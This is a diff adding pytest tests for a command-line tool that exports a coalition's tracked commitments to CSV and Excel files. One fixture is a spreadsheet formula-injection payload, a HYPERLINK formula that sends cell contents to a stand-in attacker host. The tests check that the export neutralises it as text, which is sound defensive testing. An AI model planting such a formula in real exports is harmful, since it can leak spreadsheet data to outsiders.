@@ -1,0 +1,290 @@
+"""`commstat export commitments`: the file a policy manager pastes into minutes or a scorecard."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import subprocess
+import sys
+from datetime import UTC, date, datetime
+from pathlib import Path
+from zoneinfo import ZoneInfo
+
+import openpyxl
+import pytest
+from click.testing import CliRunner
+from sqlalchemy import event
+
+from bot import commitments
+from bot.cli import main
+from bot.commitments import Actor
+from bot.dates import Due
+from bot.export import COLUMNS, Filters, export_rows
+from storage import repositories as repo
+from storage.db import make_engine, make_session_factory
+from storage.models import Indicator
+
+TEAM = "T0COALITION"
+NY = ZoneInfo("America/New_York")
+CREATED = datetime(2026, 10, 27, 14, 0, tzinfo=UTC)
+NOW = "2026-11-23T15:00:00Z"
+NASTY = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
+
+
+def at(month, day, hour=17, minute=0):
+    return datetime(2026, month, day, hour, minute, tzinfo=NY)
+
+
+def make(session, owners, what, due, *, channel="C0MEETING", created=CREATED, indicator=None):
+    actor = Actor(TEAM, owners[0])
+    commitment, _ = commitments.create(
+        session,
+        actor=actor,
+        owners=owners,
+        what=what,
+        due=Due(due, False),
+        indicator_id=indicator,
+        channel_id=channel,
+        request_key=None,
+        now=created,
+    )
+    return commitment, actor
+
+
+def seed(url):
+    """Four commitments made and closed through the real core."""
+    engine = make_engine(url)
+    sessions = make_session_factory(engine)
+    with sessions.begin() as session:
+        repo.ensure_team(session, TEAM, time_zone="America/New_York", now=CREATED)
+        repo.save_person(session, TEAM, "U0MARIA", display_name="maria", organisation="Health Dept")
+        repo.save_person(session, TEAM, "U0LEE", display_name="lee", organisation="Police")
+        naloxone = Indicator(
+            team_id=TEAM,
+            slug="naloxone",
+            name="Naloxone kits",
+            created_at=CREATED,
+            updated_at=CREATED,
+        )
+        session.add(naloxone)
+        session.flush()
+        kits, maria = make(
+            session,
+            ["U0MARIA", "U0LEE"],
+            "Distribute 200 naloxone kits",
+            at(11, 2),
+            indicator=naloxone.id,
+        )
+        commitments.add_note(session, kits, actor=maria, now=at(10, 28), text="Kits ordered")
+        commitments.add_note(session, kits, actor=maria, now=at(10, 29), text="Half arrived")
+        commitments.add_note(session, kits, actor=maria, now=at(10, 30), text="Shelter agreed")
+        commitments.add_note(session, kits, actor=maria, now=at(10, 31), text="Volunteers found")
+        commitments.complete(session, kits, actor=maria, now=at(11, 2, 23, 30), note="All out")
+        late, lee = make(session, ["U0LEE"], "Open the Saturday clinic", at(11, 4))
+        commitments.move(session, late, actor=lee, now=at(11, 3), due=Due(at(11, 6), False))
+        commitments.complete(session, late, actor=lee, now=at(11, 9, 10))
+        make(session, ["U0MARIA"], NASTY, at(11, 10), channel="C0OTHER")
+        old, _ = make(session, ["U0LEE"], "Old housing survey", at(9, 15), created=at(9, 1))
+        commitments.drop(session, old, actor=lee, now=at(9, 10), reason="-1 budget, see @finance")
+    engine.dispose()
+    return url
+
+
+@pytest.fixture
+def database(sqlite_url):
+    return seed(sqlite_url)
+
+
+@pytest.fixture
+def folder(tmp_path, monkeypatch):
+    """The working directory: holds only what the export writes."""
+    path = tmp_path / "out"
+    path.mkdir()
+    monkeypatch.chdir(path)
+    return path
+
+
+@pytest.fixture
+def run(database, folder):
+    runner = CliRunner(
+        env={
+            "DATABASE_URL": database,
+            "SLACK_BOT_TOKEN": None,
+            "SLACK_SIGNING_SECRET": None,
+            "COMMSTAT_TIMEZONE": "America/New_York",
+        }
+    )
+
+    def invoke(*args):
+        return runner.invoke(main, ["export", "commitments", "--now", NOW, *args])
+
+    return invoke
+
+
+def read_csv(data: bytes):
+    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def test_csv_has_what_the_minutes_need(run):
+    result = run()
+    assert result.exit_code == 0, result.output
+    rows = read_csv(result.stdout_bytes)
+    assert list(rows[0]) == list(COLUMNS)
+    assert [r["commitment"] for r in rows] == [
+        "Distribute 200 naloxone kits",
+        "Open the Saturday clinic",
+        "'" + NASTY,
+        "Old housing survey",
+    ]
+    kits, clinic, nasty, old = rows
+    assert kits["owners"] == "maria (U0MARIA); lee (U0LEE)"
+    assert kits["organisations"] == "Health Dept; Police"
+    assert kits["creator"] == "maria (U0MARIA)"
+    assert (kits["created"], kits["due"], kits["closed"]) == (
+        "2026-10-27",
+        "2026-11-02",
+        "2026-11-02",
+    )
+    assert (kits["status"], kits["on time"], kits["days late"]) == ("done", "yes", "0")
+    assert kits["indicator"] == "Naloxone kits"
+    assert kits["notes"] == "(2 earlier notes) Shelter agreed | Volunteers found | Done: All out"
+    assert (clinic["due"], clinic["due date changes"]) == ("2026-11-06", "1")
+    assert (clinic["on time"], clinic["days late"]) == ("no", "3")
+    assert (nasty["status"], nasty["on time"], nasty["days late"]) == ("open", "—", "13")
+    assert nasty["channel"] == "C0OTHER"
+    assert (old["status"], old["on time"], old["days late"]) == ("dropped", "—", "")
+    assert old["notes"] == "Dropped: -1 budget, see @finance"  # not at the start of the cell
+    assert "Exported 4 commitments" in result.stderr
+
+
+def test_since_until_channel_and_status_filter_rows(run):
+    def ids(*args):
+        result = run(*args)
+        assert result.exit_code == 0, result.output
+        return [r["commitment"][:8] for r in read_csv(result.stdout_bytes)]
+
+    assert ids("--since", "2026-10-01") == ["Distribu", "Open the", "'=HYPERL"]
+    assert ids("--since", "2026-11-05") == ["Open the", "'=HYPERL"]  # closed Nov 9, due Nov 10
+    assert ids("--until", "2026-09") == ["Old hous"]
+    assert ids("--since", "last month") == ["Distribu", "Open the", "'=HYPERL"]  # October on
+    assert ids("--since", "30 days") == ["Distribu", "Open the", "'=HYPERL"]
+    assert ids("--channel", "C0OTHER") == ["'=HYPERL"]
+    assert ids("--channel", "<#C0MEETING|meeting>", "--status", "done") == ["Distribu", "Open the"]
+    assert ids("--status", "dropped") == ["Old hous"]
+
+
+def test_xlsx_is_a_real_workbook(run, folder):
+    result = run("--format", "xlsx")
+    assert result.exit_code == 0, result.output
+    path = folder / "commitments-2026-11-23.xlsx"
+    assert f"Exported 4 commitments to {path.name}" in result.output
+    book = openpyxl.load_workbook(path)
+    sheet = book.active
+    assert [c.value for c in sheet[1]] == list(COLUMNS)
+    assert sheet["A1"].font.bold
+    assert sheet.freeze_panes == "A2"
+    assert sheet.column_dimensions["B"].width >= 40
+    kits = {name: cell.value for name, cell in zip(COLUMNS, sheet[2], strict=True)}
+    assert kits["due"] == datetime(2026, 11, 2)  # a real date Excel can sort and filter
+    assert sheet.cell(row=2, column=COLUMNS.index("due") + 1).is_date
+    assert kits["days late"] == 0
+    nasty = sheet.cell(row=4, column=2)
+    assert nasty.value == "'" + NASTY
+    assert nasty.data_type == "s"  # text, never a formula
+    assert [p.name for p in folder.iterdir()] == [path.name]  # no temporary file left
+
+
+def test_output_file_for_csv(run, folder):
+    result = run("--output", "minutes.csv", "--status", "open")
+    assert result.exit_code == 0, result.output
+    rows = read_csv((folder / "minutes.csv").read_bytes())
+    assert [r["id"] for r in rows] == ["3"]
+    assert result.stdout == "Exported 1 commitment to minutes.csv.\n"
+    assert (folder / "minutes.csv").stat().st_mode & 0o644 == 0o644  # readable like any file
+
+
+@pytest.mark.parametrize(
+    ("args", "code", "message"),
+    [
+        (["--format", "pdf"], 2, "'pdf' is not one of 'csv', 'xlsx'"),
+        (["--status", "late"], 2, "'late' is not one of"),
+        (["--since", "the olden days"], 1, "I can't read 'the olden days' as a date"),
+        (["--since", "2026-02-30"], 1, "'2026-02-30' is not a real date"),
+        (["--since", "2026-12-01", "--until", "2026-11-01"], 1, "nothing could match"),
+        (["--channel", "#general"], 1, "use the channel id, like C0123ABCD"),
+        (["--output", "no/such/folder/x.csv"], 1, "does not exist"),
+    ],
+)
+def test_bad_options_are_refused_and_nothing_is_written(run, folder, args, code, message):
+    result = run("--format", "xlsx", *args) if "--format" not in args else run(*args)
+    assert result.exit_code == code
+    assert message in result.output
+    assert "Traceback" not in result.output
+    assert list(folder.iterdir()) == []
+
+
+def test_xlsx_goes_to_a_pipe_but_never_to_a_terminal(run, database, folder):
+    piped = run("--format", "xlsx", "--output", "-")
+    assert piped.exit_code == 0, piped.output
+    assert piped.stdout_bytes.startswith(b"PK")  # a zip: the xlsx container
+    screen, terminal = os.openpty()  # a real terminal as stdout
+    try:
+        result = subprocess.run(
+            [
+                sys.executable,
+                "-m",
+                "bot.cli",
+                "export",
+                "commitments",
+                "--format",
+                "xlsx",
+                "--output",
+                "-",
+                "--now",
+                NOW,
+            ],
+            stdout=terminal,
+            stderr=subprocess.PIPE,
+            text=True,
+            cwd=folder,
+            env={
+                "PATH": os.environ["PATH"],
+                "HOME": str(folder),
+                "DATABASE_URL": database,
+                "PYTHONPATH": str(Path(__file__).parents[2]),
+            },
+            timeout=60,
+        )
+    finally:
+        os.close(terminal)
+        os.close(screen)
+    assert result.returncode == 1
+    assert "An Excel file can't be shown on the screen" in result.stderr
+    assert list(folder.iterdir()) == []
+
+
+def test_rows_are_read_in_bulk_not_one_query_per_commitment(db_url):
+    engine = make_engine(seed(db_url))
+    sessions = make_session_factory(engine)
+    with sessions.begin() as session:
+        for i in range(60):
+            make(session, ["U0MARIA", "U0LEE"], f"Follow-up {i}", at(12, 1))
+    statements = []
+    event.listen(engine, "before_cursor_execute", lambda *a: statements.append(a[2]))
+    # (only SELECTs are counted below; BEGIN is the connection's, not the export's)
+    with sessions() as session:
+        rows = list(
+            export_rows(
+                session,
+                team_id=TEAM,
+                filters=Filters(),
+                now=datetime(2026, 11, 23, tzinfo=UTC),
+            )
+        )
+    engine.dispose()
+    assert len(rows) == 64
+    assert rows[-1][COLUMNS.index("due")] == date(2026, 12, 1)
+    # people, indicators, then one streamed pass each over commitments, owners and events.
+    assert len([s for s in statements if s.lstrip().startswith("SELECT")]) == 5
